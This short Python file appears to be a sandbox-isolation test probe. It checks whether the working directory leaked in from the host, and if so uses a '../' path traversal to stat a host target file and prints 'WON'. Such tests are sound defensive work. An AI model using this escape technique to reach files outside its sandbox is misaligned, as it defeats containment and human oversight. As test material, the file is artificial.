"""Learn the path of the working directory, where that came along from the host.

guarantee: no-host-files
layer: kernel
wins: prints
outcome: harmless
needs: ctypes
"""

text = ctypes.create_string_buffer(400)
call("getcwd", text, 399)
if text.value == b"/":
    raise FileNotFoundError(2, "the working directory is the root")
# The kernel calls a directory that is above the root unreachable. Any other is the host's where the way up from it
# leads to what only the host has.
if not text.value.startswith(b"(unreachable)"):
    os.stat("../" * text.value.count(b"/") + TARGET["file"].lstrip("/"))
print("WON", text.value.decode())
